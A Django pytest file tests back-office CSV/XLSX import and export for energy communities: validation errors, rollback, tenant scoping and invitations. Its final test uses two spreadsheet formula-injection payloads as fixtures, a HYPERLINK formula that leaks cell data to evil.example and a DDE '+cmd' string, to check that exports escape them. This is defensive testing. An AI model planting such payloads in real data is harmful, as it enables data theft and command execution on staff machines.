"""CSV/XLSX import and export in the back office: row-level error reports, all-or-nothing."""

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from tablib import Dataset

from accounts.models import User
from communities.models import Membership, MembershipInvitation, MeteringPoint
from communities.resources import MembershipResource, MeteringPointResource
from conftest import PASSWORD
from plants.models import Plant
from plants.resources import PlantResource

pytestmark = pytest.mark.django_db
CSV, XLSX = "0", "1"  # indexes of the admin's import/export formats


def login(client, user):
    assert (
        client.post("/admin/login/?next=/admin/", {"username": user.email, "password": PASSWORD}).status_code
        == 302
    )
    return client


def upload(client, url, text, name="rows.csv"):
    return client.post(
        url,
        {
            "resource": "0",
            "format": CSV,
            "import_file": SimpleUploadedFile(name, text.encode(), content_type="text/csv"),
        },
    )


MEMBERS_HEADER = "community,email,full_name,member_type,role,participation_factor_pct,joined_at\n"


def test_a_bad_row_is_reported_and_nothing_is_imported(client, world):
    login(client, world.a.referent)
    text = MEMBERS_HEADER + (
        "community-a,anna@example.com,Anna Rossi,consumer,member,100,2025-02-01\n"
        "community-a,not-an-email,Bad Row,consumer,member,100,2025-02-01\n"
        "community-a,carlo@example.com,Carlo Bianchi,alien,member,100,2025-02-01\n"
    )
    resp = upload(client, "/admin/communities/membership/import/", text)
    assert resp.status_code == 200
    result = resp.context["result"]
    assert result.has_validation_errors()
    invalid = {row.number: row.error_dict for row in result.invalid_rows}
    assert set(invalid) == {2, 3}
    assert "email" in invalid[2] and "member_type" in invalid[3]
    assert "confirm_form" not in resp.context or resp.context["confirm_form"] is None
    html = resp.content.decode()
    assert "Not an email address" in html
    assert not User.objects.filter(email__in=["anna@example.com", "carlo@example.com"]).exists()
    assert Membership.objects.count() == 4


def test_it_imports_members_after_confirmation(client, world):
    login(client, world.a.referent)
    text = MEMBERS_HEADER + (
        "community-a,anna@example.com,Anna Rossi,consumer,member,,2025-02-01\n"
        "community-a,member-a@example.com,,prosumer,member,,\n"  # existing current member: updated
    )
    resp = upload(client, "/admin/communities/membership/import/", text)
    assert resp.status_code == 200
    assert not resp.context["result"].has_validation_errors(), resp.context["result"].invalid_rows
    confirm = resp.context["confirm_form"]
    done = client.post("/admin/communities/membership/process_import/", confirm.initial)
    assert done.status_code == 302
    # a new person is invited (and joins when they accept); a current member is updated
    assert not Membership.objects.filter(user__email="anna@example.com").exists()
    invitation = MembershipInvitation.objects.get(email="anna@example.com")
    assert invitation.community == world.a.community and invitation.status == "pending"
    assert invitation.terms["joined_at"] == "2025-02-01"
    assert User.objects.get(email="anna@example.com").full_name == "Anna Rossi"
    assert Membership.objects.get(pk=world.a.membership.pk).member_type == "prosumer"


def test_it_refuses_rows_for_a_community_the_importer_does_not_manage(client, world):
    login(client, world.a.referent)
    text = MEMBERS_HEADER + "community-b,intruder@example.com,,consumer,member,,2025-02-01\n"
    resp = upload(client, "/admin/communities/membership/import/", text)
    invalid = resp.context["result"].invalid_rows
    assert "community" in invalid[0].error_dict
    assert not Membership.objects.filter(
        community=world.b.community, user__email="intruder@example.com"
    ).exists()


def test_the_resource_rolls_back_everything_on_a_bad_row(world):
    """The confirm step runs the same import for real: one bad row, nothing written."""
    data = Dataset(headers=["code", "community", "email", "lon", "lat", "primary_substation", "direction"])
    data.append(
        ["IT001E60000001", "community-a", "member-a@example.com", "11.341", "44.491", "", "withdrawal"]
    )
    data.append(["IT001E60000002", "community-a", "other-a@example.com", "16.87", "41.12", "", "withdrawal"])
    data.append(["IT001E60000003", "community-a", "other-a@example.com", "11.342", "44.492", "AC999", "both"])
    result = MeteringPointResource().import_data(
        data, dry_run=False, use_transactions=True, rollback_on_validation_errors=True, user=world.a.referent
    )
    invalid = {row.number: row.error_dict for row in result.invalid_rows}
    assert set(invalid) == {2, 3}
    assert "outside the boundary" in str(invalid[2]["location"])
    assert "primary_substation" in invalid[3]
    assert not MeteringPoint.objects.exists()


def test_the_resource_imports_eligible_pods_and_plants(world):
    pods = Dataset(headers=["code", "community", "email", "lon", "lat", "direction"])
    pods.append(["it001e60000009", "community-a", "member-a@example.com", "11.341", "44.491", "injection"])
    result = MeteringPointResource().import_data(
        pods, dry_run=False, use_transactions=True, rollback_on_validation_errors=True, user=world.a.vendor
    )
    assert not result.has_validation_errors() and not result.has_errors()
    pod = MeteringPoint.objects.get(code="IT001E60000009")
    assert pod.primary_substation == "AC001E00001" and pod.location.coords == (11.341, 44.491)
    plants = Dataset(
        headers=[
            "name",
            "community",
            "owner_email",
            "metering_point",
            "lon",
            "lat",
            "capacity_kwp",
            "commissioned_on",
        ]
    )
    plants.append(
        [
            "Fienile",
            "community-a",
            "member-a@example.com",
            "IT001E60000009",
            "11.341",
            "44.491",
            "12.5",
            "2023-04-01",
        ]
    )
    plants.append(["Plant a", "community-a", "member-a@example.com", "", "11.34", "44.49", "8", ""])
    result = PlantResource().import_data(
        plants, dry_run=False, use_transactions=True, rollback_on_validation_errors=True, user=world.a.vendor
    )
    assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
    assert Plant.objects.get(name="Fienile").metering_point == pod
    assert Plant.objects.get(pk=world.a.plant.pk).capacity_kwp == 8  # matched by (community, name): updated
    assert Plant.objects.count() == 3


def test_a_plant_row_outside_the_boundary_is_refused(world):
    plants = Dataset(headers=["name", "community", "owner_email", "lon", "lat", "capacity_kwp"])
    plants.append(["Ok", "community-a", "member-a@example.com", "11.341", "44.491", "3"])
    plants.append(["Milano", "community-a", "member-a@example.com", "9.19", "45.46", "3"])
    result = PlantResource().import_data(
        plants, dry_run=False, use_transactions=True, rollback_on_validation_errors=True, user=world.a.vendor
    )
    assert [r.number for r in result.invalid_rows] == [2]
    assert not Plant.objects.filter(name__in=["Ok", "Milano"]).exists()


def test_it_imports_an_xlsx_file(client, world):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(
        ["community", "email", "full_name", "member_type", "role", "participation_factor_pct", "joined_at"]
    )
    sheet.append(["community-a", "xlsx@example.com", "Xena Lsx", "consumer", "member", 100, "2025-03-01"])
    buf = io.BytesIO()
    book.save(buf)
    login(client, world.a.vendor)
    resp = client.post(
        "/admin/communities/membership/import/",
        {"resource": "0", "format": XLSX, "import_file": SimpleUploadedFile("rows.xlsx", buf.getvalue())},
    )
    assert resp.status_code == 200
    assert not resp.context["result"].has_validation_errors()
    client.post("/admin/communities/membership/process_import/", resp.context["confirm_form"].initial)
    assert MembershipInvitation.objects.filter(email="xlsx@example.com", community=world.a.community).exists()


def test_the_export_is_scoped_and_in_xlsx(client, world):
    login(client, world.a.referent)
    fields = PlantResource().get_export_order()
    data = {"resource": "0", "format": XLSX, **{f"plantresource_{f}": "on" for f in fields}}
    resp = client.post("/admin/plants/plant/export/", data)
    assert resp.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(resp.content)).active
    rows = list(sheet.values)
    assert rows[0][:3] == ("name", "community", "owner_email")
    assert [r[0] for r in rows[1:]] == ["Plant a"]


def test_the_membership_export_round_trips(world):
    data = MembershipResource().export(queryset=Membership.objects.filter(community=world.a.community))
    assert data.headers[:3] == ["id", "community", "email"]
    assert sorted(data["email"]) == ["member-a@example.com", "other-a@example.com"]


def test_an_import_row_never_pulls_in_an_existing_account_of_another_tenant(client, world, mailoutbox):
    """Issue 8, item 2: the row becomes an invitation to the person; their membership,
    name and data stay out of the importer's scope until they accept."""
    login(client, world.a.vendor)
    text = MEMBERS_HEADER + (
        "community-a,member-b@example.com,,consumer,member,,2025-02-01\n"
        "community-a,admin@example.com,,consumer,member,,2025-02-01\n"
    )
    resp = upload(client, "/admin/communities/membership/import/", text)
    assert not resp.context["result"].has_validation_errors(), resp.context["result"].invalid_rows
    done = client.post("/admin/communities/membership/process_import/", resp.context["confirm_form"].initial)
    assert done.status_code == 302
    emails = ["member-b@example.com", "admin@example.com"]
    assert not Membership.objects.filter(community=world.a.community, user__email__in=emails).exists()
    assert set(MembershipInvitation.objects.values_list("email", flat=True)) == {
        "member-b@example.com", "admin@example.com"}
    listing = client.get("/admin/communities/membership/").content.decode()
    assert "member-b@example.com" not in listing and "admin@example.com" not in listing


def test_exports_escape_spreadsheet_formulas(client, world):
    """A member who names themselves `=HYPERLINK(...)` does not run a formula on the
    computer of the staff who open the export; our own import reads the name back."""
    world.a.member.full_name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    world.a.member.save()
    world.a.plant.name = "+cmd|' /C calc'!A0"
    world.a.plant.save()
    members = MembershipResource().export(queryset=Membership.objects.filter(community=world.a.community))
    names = dict(zip(members["email"], members["full_name"], strict=True))
    assert names["member-a@example.com"] == "'" + world.a.member.full_name
    login(client, world.a.referent)
    fields = PlantResource().get_export_order()
    data = {"resource": "0", "format": XLSX, **{f"plantresource_{f}": "on" for f in fields}}
    exported = client.post("/admin/plants/plant/export/", data).content
    sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert [r[0] for r in list(sheet.values)[1:]] == ["'+cmd|' /C calc'!A0"]
    csv = MembershipResource().export(queryset=Membership.objects.filter(community=world.a.community)).csv
    assert ",=HYPERLINK" not in csv and "'=HYPERLINK" in csv
    # round trip: the apostrophe of our export is dropped again on import
    again = Dataset(headers=["community", "email", "full_name", "member_type", "role", "joined_at"])
    again.append(["community-a", "member-a@example.com", "'=1+1", "consumer", "member", ""])
    result = MembershipResource().import_data(again, dry_run=True, user=world.a.vendor)
    assert not result.has_validation_errors() and not result.has_errors()
